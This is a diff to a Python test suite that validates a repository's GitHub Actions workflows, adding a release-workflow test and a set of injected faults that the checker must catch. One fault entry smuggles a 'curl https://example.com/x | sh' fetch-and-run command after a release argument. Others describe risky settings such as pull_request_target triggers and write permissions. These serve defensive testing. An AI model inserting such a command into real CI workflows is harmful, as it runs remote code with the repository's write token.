@@ -31,7 +31,16 @@ def test_link_check_runs_weekly_and_never_on_pull_requests():
     assert workflows.commands(ROOT, "linkcheck.yml") == ["make linkcheck"]
 
 
+def test_a_version_tag_publishes_the_release_pack_and_only_that_job_writes():
+    release = workflows.load(ROOT / workflows.WORKFLOWS / "release.yml")
+    assert workflows.triggers(ROOT, "release.yml") == {"push", "workflow_dispatch"}
+    assert release["on"]["push"] == {"tags": ["v*"]} and release["permissions"] == {}
+    assert release["jobs"]["pack"]["permissions"] == {"contents": "write"}
+    assert workflows.commands(ROOT, "release.yml") == ["make release-pack", workflows.RELEASE_UPLOAD]
+
+
 CHECKS = ".github/workflows/checks.yml"
+RELEASE = ".github/workflows/release.yml"
 DEPLOY = ".github/workflows/deploy.yml"
 CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
 
@@ -41,6 +50,7 @@ FAULTS = {
     "unpinned-action": (CHECKS, CHECKOUT, "actions/checkout@v4", "actions/checkout@v4", "'actions/checkout@v4' is not pinned"),
     "deploy-job-with-too-many-permissions": (DEPLOY, "      pages: write\n", "      pages: write\n      contents: write\n", "  deploy:", "the deploy job's permissions must be exactly"),
     "workflow-runs-its-own-commands": (CHECKS, "run: make test", "run: pip install mkdocs && mkdocs build", "pip install mkdocs", "workflows call the README's commands"),
+    "release-runs-another-command": (RELEASE, "--clobber", "--clobber && curl https://example.com/x | sh", "curl https://example.com", "workflows call the README's commands"),
     "pull-request-target": (CHECKS, "on:\n  pull_request:\n", "on:\n  pull_request_target:\n", "pull_request_target", "'pull_request_target' runs a fork's pull request with this repository's write token and secrets; trigger on 'pull_request'"),
     "pull-request-workflow-may-write": (CHECKS, "permissions:\n  contents: read\n", "permissions:\n  contents: write\n", "permissions:", "the workflow runs on pull requests, so its token may only read: set 'permissions: contents: read' (or less), found {'contents': 'write'}"),
     "pull-request-job-may-write": (CHECKS, "    timeout-minutes: 30\n", "    timeout-minutes: 30\n    permissions: write-all\n", "  test:", "so its token may only read: set 'permissions: contents: read' (or less) in job 'test', found 'write-all'"),
